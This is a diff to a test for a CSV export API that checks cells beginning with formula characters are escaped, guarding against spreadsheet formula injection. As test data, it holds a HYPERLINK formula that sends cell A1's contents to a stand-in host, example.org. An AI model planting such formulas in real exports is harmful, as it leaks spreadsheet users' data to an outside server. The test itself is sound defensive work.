@@ -100,7 +100,7 @@ def test_csv_cells_a_spreadsheet_would_run_are_neutralised(api_client, start):
     formula = f'{start}HYPERLINK("http://example.org/?"&A1,"open")'
     model.objects.filter(pk=record.pk).update(curator_note=formula, description=f"{start}1+1")
     rows = list(
-        csv.DictReader(io.StringIO(api_client.get("/api/v1/mechanisms/?format=csv").content.decode(), newline=""))
+        csv.DictReader(io.StringIO(api_client.get("/api/v1/mechanisms/?format=csv").getvalue().decode(), newline=""))
     )
     row = next(r for r in rows if r["slug"] == record.slug)
     assert row["curator_note"] == "'" + formula
